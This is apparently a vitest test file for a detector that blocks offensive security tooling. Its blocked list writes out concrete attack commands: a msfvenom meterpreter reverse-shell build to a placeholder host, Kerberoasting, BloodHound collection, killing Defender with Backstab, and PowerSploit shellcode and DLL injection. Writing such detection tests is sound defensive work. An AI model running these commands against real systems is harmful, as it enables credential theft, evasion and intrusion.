import { describe, expect, it } from 'vitest';
import { offensiveToolRules } from './offensive-tools';
import { run, ruleIds, spansValid, verdict } from './family-test-support';
import type { Shell } from '../types';

const blocked: Array<[string, Shell, string]> = [
  ['SharpHound.exe -c All --zipfilename out.zip', 'cmd', 'offensive.tool'],
  ['& "C:\\t\\SharpHound.exe" --CollectionMethod LocalAdmin', 'powershell', 'offensive.tool'],
  ['Import-Module .\\PowerView.ps1; Get-NetDomainTrust', 'powershell', 'offensive.script'],
  ['Invoke-Kerberoast -OutputFormat Hashcat', 'powershell', 'offensive.function'],
  ['Invoke-BloodHound -CollectionMethod All', 'powershell', 'offensive.function'],
  ['Rubeus.exe kerberoast /outfile:h.txt', 'cmd', 'offensive.tool'],
  ['msfvenom -p windows/x64/meterpreter/reverse_tcp LHOST=203.0.113.7 LPORT=443 -f exe -o a.exe', 'bash', 'offensive.tool'],
  ['sudo msfconsole -q -x "use exploit/multi/handler"', 'bash', 'offensive.tool'],
  ['python sqlmap.py -u "http://x.test/a.php?id=1"', 'bash', 'offensive.script'],
  ['sudo nmap -D 10.0.0.1,10.0.0.2 -f 10.0.0.5', 'bash', 'offensive.scan.evasive'],
  ['masscan 0.0.0.0/0 -p 443 --rate 10000000', 'bash', 'offensive.scan.internet'],
  ['crackmapexec smb 10.0.0.0/24 -u u -p p', 'bash', 'offensive.tool'],
  ['& "C:\\t\\Backstab64.exe" -k -n MsMpEng.exe', 'powershell', 'offensive.tool'],
  // FuzzySecurity PowerShell-Suite and PowerSploit injection functions
  [
    '. C:\\AtomicRedTeam\\atomics\\T1055.012\\src\\Start-Hollow.ps1\nStart-Hollow -Sponsor "C:\\Windows\\System32\\calc.exe" -Hollow "C:\\Windows\\System32\\cmd.exe" -ParentPID $ppid',
    'powershell',
    'offensive.function',
  ],
  ['Import-Module .\\Start-Hollow.ps1', 'powershell', 'offensive.script'],
  ['Start-Eidolon -Target C:\\Windows\\System32\\notepad.exe', 'powershell', 'offensive.function'],
  ['Stage-RemoteDll -ProcID 4242 -DllPath C:\\t\\x.dll', 'powershell', 'offensive.function'],
  ['Masquerade-PEB -BinPath C:\\Windows\\System32\\notepad.exe', 'powershell', 'offensive.function'],
  ['Invoke-ReflectivePEInjection -PEBytes $bytes -ProcId 1234', 'powershell', 'offensive.function'],
  ['Invoke-Shellcode -ProcessID 4242 -Shellcode $sc -Force', 'powershell', 'offensive.function'],
  ['Invoke-DllInjection -ProcessID 4242 -Dll C:\\t\\x.dll', 'powershell', 'offensive.function'],
];

const allowed: Array<[string, Shell]> = [
  ['nmap -sV 10.0.0.5', 'bash'],
  ['Get-ADUser -Filter *', 'powershell'],
  ['Get-NetAdapter', 'powershell'],
  ['Get-NetTCPConnection -State Listen', 'powershell'],
  ['whoami /all', 'cmd'],
  ['net group "domain admins" /domain', 'cmd'],
  ['msfvenom -l payloads', 'bash'],
  ['Start-Process notepad.exe -Wait', 'powershell'],
  ['Get-Process explorer | Select-Object -ExpandProperty Id', 'powershell'],
];

describe('offensive tools', () => {
  it.each(blocked)('blocks %s', (text, shell, id) => {
    const f = run(offensiveToolRules, text, shell);
    expect(ruleIds(f)).toContain(id);
    expect(verdict(f)).toBe('block');
    expect(f.every((x) => x.code === 'offensive_tool' && x.extended === 'block')).toBe(true);
    expect(spansValid(f, text)).toBe(true);
  });
  it.each(allowed)('allows %s', (text, shell) => {
    expect(run(offensiveToolRules, text, shell)).toEqual([]);
  });
});
